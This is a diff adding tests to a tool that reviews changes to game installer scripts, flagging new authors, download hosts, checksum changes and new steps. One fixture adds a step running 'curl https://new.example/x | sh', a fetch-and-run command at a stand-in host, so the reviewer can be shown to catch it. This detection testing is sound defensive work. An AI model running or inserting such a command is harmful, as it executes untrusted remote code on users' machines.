@@ -39,10 +39,9 @@ describe.each(CASES)('%s', (name) => {
   const review = reviewOf(name);
 
   test.each([
-    ['text', textReview(review, PLAIN)],
-    ['Markdown', markdownReview(review)],
-  ])('the first forty lines of the %s tell it', (_, report) => {
-    const lines = report.split('\n').slice(0, 40);
+    ['last forty lines of the text', textReview(review, PLAIN).split('\n').slice(-40)],
+    ['first forty lines of the Markdown', markdownReview(review).split('\n').slice(0, 40)],
+  ])('the %s tell it', (_, lines) => {
     const words = lines.map((line) => line.trim()).join(' ');
     for (const shown of shows) expect(words).toContain(shown);
     expect(words.includes('To check')).toBe(alarming);
@@ -74,6 +73,61 @@ test('a new version of a program that nobody verifies is not said to leave nothi
   expect(report).toContain('\nNothing unusual but unverified programs that are run, no breaking change, 1 record');
   expect(report).toContain('Run without being verified: `maps`.');
   expect(report).not.toContain('Nothing unusual among');
+});
+
+test('a note stands once for all records that share it, with their names', () => {
+  const base = textsIn('base');
+  const [path = '', text = ''] = Object.entries(base).find(([name]) => name.endsWith('red-eclipse-linux.yaml')) ?? [];
+  const names = ['a', 'b', 'c', 'd', 'e'].map((letter) => `red-eclipse-${letter}`);
+  const added = names.map((name) => [
+    path.replace('red-eclipse-linux', name),
+    text.replace(/^user: .*/m, 'user: newcomer').replace('https://github.com/redeclipse', 'https://new.example/files'),
+  ]);
+  const [first = '', ...others] = added.map(([name = '']) => name);
+  const worse = `${added[0]?.[1]?.trimEnd() ?? ''}\n    - execute:\n        command: curl https://new.example/x | sh\n`;
+  const review = reviewTexts(base, { ...base, ...(Object.fromEntries(added) as Texts), [first]: worse });
+  const report = textReview(review, { ...PLAIN, details: false, width: 300 });
+  for (const words of ['First installer by `newcomer`.', 'New download host: `new.example`.'])
+    expect([report, markdownReview(review)].map((page) => page.split(words).length - 1)).toEqual([1, 1]);
+  expect(report).toContain(`  ○ ${names.join(', ')} (installers added)\n`);
+  expect(report).toContain(`  ▲ ${names[0] ?? ''} (installer added)\n`);
+  expect(markdownReview(review)).toContain(
+    `- ${names.map((name) => `**\`${name}\`**`).join(', ')} (installers added)\n`,
+  );
+  expect(others).toHaveLength(4);
+});
+
+test('at a terminal the worst comes last, and below the headline of a page first', () => {
+  const review = reviewOf('checksum-dropped');
+  const places = (page: string) => ['Other changes', 'To check', '1 record to check'].map((one) => page.indexOf(one));
+  const ascending = (numbers: readonly number[]) => numbers.toSorted((a, b) => a - b);
+  const [text, page] = [places(textReview(review, PLAIN)), places(markdownReview(review))];
+  expect(text).toEqual(ascending(text));
+  expect(page).toEqual(ascending(page).reverse());
+  expect([...text, ...page]).not.toContain(-1);
+});
+
+test('a bump of a version is no breaking change, and both versions are named', () => {
+  const review = reviewOf('version-update');
+  expect(review.breaking).toEqual([]);
+  expect(review.labels).not.toContain('breaking change');
+  expect(textReview(review, PLAIN)).toContain(
+    '· openttd-windows: script, version 15.3 Windows portable → 15.4 Windows portable',
+  );
+  expect(textReview(review, PLAIN)).toContain('Nothing to check, no breaking change');
+});
+
+test('what changes in a script is told in plain words', () => {
+  const base = textsIn('base');
+  const [path = '', text = ''] = Object.entries(base).find(([name]) => name.endsWith('openttd-windows.yaml')) ?? [];
+  const sum = (digit: string) => text.replace(/checksum: .*/, `checksum: sha256:${digit.repeat(64)}`);
+  const step = `${sum('b').trimEnd()}\n    - execute:\n        file: $GAMEDIR/setup.sh\n`;
+  const report = textReview(reviewTexts({ ...base, [path]: sum('a') }, { ...base, [path]: step }), PLAIN);
+  expect(report).toContain('• Checksum of `openttd` changed.');
+  expect(report).toMatch(/• New step \d+: runs `setup.sh`/);
+  expect(report).toContain('Same address, new checksum: `openttd`.');
+  const back = textReview(reviewTexts({ ...base, [path]: step }, { ...base, [path]: text }), PLAIN);
+  expect(back).toContain('• Step removed: runs `setup.sh`');
 });
 
 const OF_RED_ECLIPSE = 'games/r/red-eclipse/red-eclipse-linux.yaml';
